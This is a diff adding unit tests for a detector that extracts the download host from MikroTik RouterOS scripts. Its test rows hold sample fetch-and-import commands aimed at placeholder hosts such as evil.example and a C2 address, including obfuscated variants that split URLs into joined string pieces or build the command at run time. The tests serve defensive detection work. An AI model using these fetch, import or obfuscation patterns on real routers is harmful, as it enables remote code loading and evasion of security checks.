@@ -75,6 +75,14 @@ public sealed class RouterOsTextTests
     [DataRow("[/tool fetch url=http://c2.example]", "c2.example")]
     [DataRow("/system backup save name=nightly", null)]
     [DataRow("/log info \"fetching nothing\"", null)]
+    // Issue 13 part 5: pieces joined with '.', URLs kept in variables, commands built at run time, imported files.
+    [DataRow(":local u (\"ht\" . \"tp:/\" . \"/evil\" . \".example/a\"); /tool fetch url=$u", "evil.example")]
+    [DataRow(":local c (\"/tool/fe\".\"tch\"); [:parse \"$c url=$u\"]", "unknown")]
+    [DataRow("/tool fetch mode=ftp address=198.51.100.7 src-path=x.rsc", "198.51.100.7")]
+    [DataRow("/import file-name=flash/upd.rsc", "import:flash/upd.rsc")]
+    [DataRow(":delay 5s; /import \"x y.rsc\" verbose=yes", "import:x y.rsc")]
+    [DataRow("/import verbose=yes file=a.rsc", "import:a.rsc")]
+    [DataRow("/log info \"important\"", null)]
     public void FetchHost_FindsWhereAScriptDownloadsFrom(string script, string? host)
     {
         Assert.AreEqual(host, RouterOsText.FetchHost(script));
@@ -99,5 +107,13 @@ public sealed class RouterOsTextTests
         Assert.AreEqual(2, RouterOsText.Find("a\u0000bc", "bc", 0));
         Assert.AreEqual(-1, RouterOsText.Find("ABC", "abc", 0));
         Assert.AreEqual(3, RouterOsText.Find("abcabc", "abc", 1));
+    }
+
+    [TestMethod]
+    public void JoinLiterals_JoinsOnlyPiecesJoinedWithADot()
+    {
+        Assert.AreEqual("\"http://x\"", RouterOsText.JoinLiterals("\"ht\" . \"tp://x\""));
+        Assert.AreEqual("\"a\" \"b\"", RouterOsText.JoinLiterals("\"a\" \"b\""));
+        Assert.AreEqual("no quotes", RouterOsText.JoinLiterals("no quotes"));
     }
 }
